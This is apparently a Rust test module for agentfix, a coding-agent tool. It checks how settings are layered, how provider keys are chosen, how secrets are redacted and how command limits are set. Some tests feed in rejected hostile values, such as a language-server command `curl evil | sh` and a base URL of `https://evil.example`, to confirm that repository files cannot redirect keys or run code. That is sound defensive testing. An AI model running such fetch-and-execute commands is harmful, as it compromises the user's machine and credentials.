        let file = Settings::from_toml("contextBudget = 50000\n").unwrap();
        let c = resolve(&file, &Settings::default(), &[]).unwrap();
        assert_eq!((c.limits.context_budget, c.source("contextBudget")), (50_000, Source::File));
        let c = resolve(&file, &Settings::default(), &[("AGENTFIX_CONTEXT_BUDGET", "60000")]).unwrap();
        assert_eq!((c.limits.context_budget, c.source("contextBudget")), (60_000, Source::Env));
        let editor = Settings { context_budget: Some(70_000), ..Settings::default() };
        let c = resolve(&file, &editor, &[("AGENTFIX_CONTEXT_BUDGET", "60000")]).unwrap();
        assert_eq!((c.limits.context_budget, c.source("contextBudget")), (70_000, Source::Editor));
        // Never above the model's known window; an unknown model keeps what it was given.
        let c = resolve(&file, &Settings::default(), &[("AGENTFIX_CONTEXT_BUDGET", "500000")]).unwrap();
        assert_eq!(c.limits.context_budget, 200_000);
        let editor = Settings { model: Some("qwen2.5-coder".into()), ..Settings::default() };
        let c = resolve(&file, &editor, &[("AGENTFIX_CONTEXT_BUDGET", "500000")]).unwrap();
        assert_eq!(c.limits.context_budget, 500_000);
        let e = resolve(&Settings::default(), &Settings::default(), &[("AGENTFIX_CONTEXT_BUDGET", "big")]).unwrap_err();
        assert_eq!(e.to_string(), "AGENTFIX_CONTEXT_BUDGET=`big` is not a number");
    }

    #[test]
    fn mcp_servers_come_from_the_editor_only_and_skip_entries_without_a_command() {
        let e = Settings::from_toml("[mcpServers.evil]\ncommand = \"sh\"\n").unwrap_err();
        assert!(e.to_string().contains("may not set `mcpServers`"), "{e}");
        let editor = Settings::from_json(&json!({"mcpServers": {
            "gh": {"command": "npx", "args": ["-y", "gh-mcp"], "env": {"A": "1"}, "autoApprove": ["search"], "timeoutSecs": 5},
            "web": {"url": "https://example.com/mcp", "type": "http"}
        }}))
        .unwrap();
        let c = resolve(&Settings::default(), &editor, &[]).unwrap();
        assert_eq!(
            c.mcp.servers,
            [McpServerConfig {
                name: "gh".into(),
                command: "npx".into(),
                args: vec!["-y".into(), "gh-mcp".into()],
                env: [("A".to_string(), "1".to_string())].into(),
                auto_approve: vec!["search".into()],
                timeout: Duration::from_secs(5),
            }]
        );
        assert_eq!(c.mcp.skipped, ["web"]);
        assert_eq!(c.source("mcpServers"), Source::Editor);
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert!(c.mcp.servers.is_empty());
        let c = resolve(
            &Settings::default(),
            &Settings::default(),
            &[("AGENTFIX_MCP_SERVERS", r#"{"e": {"command": "srv"}}"#)],
        )
        .unwrap();
        assert_eq!((c.mcp.servers[0].command.as_str(), c.source("mcpServers")), ("srv", Source::Env));
        let e = resolve(&Settings::default(), &Settings::default(), &[("AGENTFIX_MCP_SERVERS", "[")]).unwrap_err();
        assert!(e.to_string().contains("AGENTFIX_MCP_SERVERS"), "{e}");
    }

    #[test]
    fn layers_apply_in_documented_order() {
        let env = &[
            ("AGENTFIX_MODEL", "env-model"),
            ("ANTHROPIC_BASE_URL", "http://env"),
            ("AGENTFIX_MAX_TURNS", "7"),
            ("ANTHROPIC_API_KEY", "sk-secret"),
        ];
        let file =
            Settings::from_toml("model = \"file-model\"\nmaxTurns = 9\ntimeoutSecs = 60\npartialEdits = \"discard\"\n")
                .unwrap();
        let c = resolve(&file, &Settings::default(), env).unwrap();
        assert_eq!(
            (c.provider.model.as_str(), c.provider.base_url.as_str(), c.limits.max_turns),
            ("env-model", "http://env", 7)
        );
        assert_eq!((c.limits.timeout, c.partial_edits), (Duration::from_secs(60), PartialEdits::Discard));
        assert_eq!(
            (c.source("model"), c.source("timeoutSecs"), c.source("maxTokens")),
            (Source::Env, Source::File, Source::Default)
        );
        let editor = Settings::from_json(
            &json!({"model": "editor-model", "baseUrl": "http://editor", "maxTurns": 3, "maxTokens": 99}),
        )
        .unwrap();
        let c = resolve(&file, &editor, env).unwrap();
        assert_eq!(
            (c.provider.model.as_str(), c.provider.base_url.as_str(), c.limits.max_turns, c.limits.max_tokens),
            ("editor-model", "http://editor", 3, 99)
        );
        assert_eq!(c.source("model"), Source::Editor);
        assert_eq!(c.provider.require_api_key().unwrap().unwrap().expose(), "sk-secret");
    }

    #[test]
    fn providers_have_their_own_keys_urls_and_defaults() {
        let editor = Settings { provider: Some(ProviderKind::Openai), ..Default::default() };
        let c = resolve(&Settings::default(), &editor, &[("OPENAI_API_KEY", "sk-o"), ("ANTHROPIC_API_KEY", "sk-a")])
            .unwrap();
        assert_eq!((c.provider.base_url.as_str(), c.provider.model.as_str()), ("https://api.openai.com/v1", "gpt-4.1"));
        assert_eq!(c.provider.api_key.unwrap().expose(), "sk-o");
        let editor = Settings { provider: Some(ProviderKind::OpenaiCompatible), ..Default::default() };
        let e = resolve(&Settings::default(), &editor, &[]).unwrap_err();
        assert!(e.to_string().contains("needs a baseUrl"), "{e}");
        let editor = Settings { base_url: Some("http://localhost:11434/v1".into()), ..editor };
        let c = resolve(&Settings::default(), &editor, &[("OPENAI_API_KEY", "not-for-ollama")]).unwrap();
        assert_eq!(
            c.provider.require_api_key().unwrap(),
            None,
            "a compatible server needs no key, and gets no OpenAI key"
        );
        let c = resolve(
            &Settings::default(),
            &Settings::default(),
            &[("AGENTFIX_PROVIDER", "OpenAI-Compatible"), ("OPENAI_BASE_URL", "http://x/v1")],
        )
        .unwrap();
        assert_eq!(c.provider.kind, ProviderKind::OpenaiCompatible);
    }

    #[test]
    fn the_project_file_cannot_redirect_the_key() {
        let e = Settings::from_toml("baseUrl = \"https://evil.example\"").unwrap_err();
        assert!(e.to_string().contains("may not set `provider` or `baseUrl`"), "{e}");
        assert!(Settings::from_toml("provider = \"openai\"").is_err());
        let e = Settings::from_toml("[languageServers.python]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n")
            .unwrap_err();
        assert!(e.to_string().contains("may not set `languageServers`"), "{e}");
        assert!(Settings::from_toml("maxTurns = \"x\"").unwrap_err().to_string().starts_with("invalid agentfix.toml"));
    }

    #[test]
    fn the_key_never_shows_in_debug_output() {
        let c =
            resolve(&Settings::default(), &Settings::default(), &[("ANTHROPIC_API_KEY", "sk-very-secret")]).unwrap();
        let dbg = format!("{c:?}");
        assert!(!dbg.contains("sk-very-secret"), "{dbg}");
        assert!(dbg.contains("<redacted>"));
    }

    #[test]
    fn bad_values_are_clear_errors() {
        let e = Settings::from_json(&json!({"provider": "gpt"})).unwrap_err();
        assert!(e.to_string().starts_with("invalid agentfix settings: unknown variant `gpt`"), "{e}");
        let e = resolve(&Settings::default(), &Settings::default(), &[("AGENTFIX_MAX_TURNS", "many")]).unwrap_err();
        assert_eq!(e.to_string(), "AGENTFIX_MAX_TURNS=`many` is not a number");
        // An editor setting above it wins, and the bad variable is not read.
        let editor = Settings { max_turns: Some(5), ..Default::default() };
        let c = resolve(&Settings::default(), &editor, &[("AGENTFIX_MAX_TURNS", "many")]).unwrap();
        assert_eq!((c.limits.max_turns, c.source("maxTurns")), (5, Source::Editor));
        let e = resolve(&Settings::default(), &Settings::default(), &[("AGENTFIX_PROVIDER", "gpt")]).unwrap_err();
        assert!(e.to_string().contains("is not a provider"));
        assert_eq!(Settings::from_json(&json!({"agentfix": {"model": "m"}})).unwrap().model.as_deref(), Some("m"));
        assert_eq!(Settings::from_json(&json!({"agentfix": null})).unwrap(), Settings::default());
    }

    #[test]
    fn read_paths_and_limits_of_commands() {
        let s = Settings::from_json(&json!({"commands": {
            "test": ["pytest"],
            "readPaths": ["/data/models"],
            "limits": {"addressSpaceMb": 1024, "cpuSecs": 60}
        }}))
        .unwrap();
        let c = resolve(&Settings::default(), &s, &[]).unwrap();
        assert_eq!(c.commands.read_paths, [std::path::PathBuf::from("/data/models")]);
        assert_eq!(
            c.commands.limits,
            CommandLimits { address_space_mb: Some(1024), cpu_secs: Some(60), ..Default::default() }
        );
        assert_eq!(c.commands.entries.len(), 1);
        for (bad, what) in [
            (json!({"readPaths": ["relative"]}), "not an absolute path"),
            (json!({"readPaths": true}), "commands.readPaths"),
            (json!({"limits": ["x"]}), "commands.limits"),
        ] {
            let e = Settings::from_json(&json!({"commands": bad}))
                .map_err(|e| e.to_string())
                .and_then(|s| resolve(&Settings::default(), &s, &[]).map(|_| ()).map_err(|e| e.to_string()))
                .unwrap_err();
            assert!(e.contains(what), "{bad}: {e}");
        }
        // A repository cannot widen what its commands read or how much they may use.
        for text in ["[commands]\nreadPaths = [\"/home\"]\n", "[commands]\nlimits = { cpuSecs = 1 }\n"] {
            let e = Settings::from_toml(text).unwrap_err().to_string();
            assert!(e.contains("may not set `commands."), "{text}: {e}");
        }
    }

    #[test]
    fn merged_settings_prefer_the_newer_source() {
        let a = Settings { model: Some("a".into()), max_turns: Some(1), ..Default::default() };
        let b = Settings { model: Some("b".into()), partial_edits: Some(PartialEdits::Discard), ..Default::default() };
        let m = a.merged(&b);
        assert_eq!(
            (m.model.as_deref(), m.max_turns, m.partial_edits),
            (Some("b"), Some(1), Some(PartialEdits::Discard))
        );
    }

    #[test]
    fn the_committed_json_schema_matches_the_settings_type() {
        let committed: Value =
            serde_json::from_str(include_str!("../agentfix.schema.json")).expect("agentfix.schema.json is JSON");
        assert_eq!(
            committed,
            Settings::json_schema(),
            "agentfix.schema.json is stale: regenerate it with `cargo run -- schema > agentfix.schema.json`"
        );
    }
}
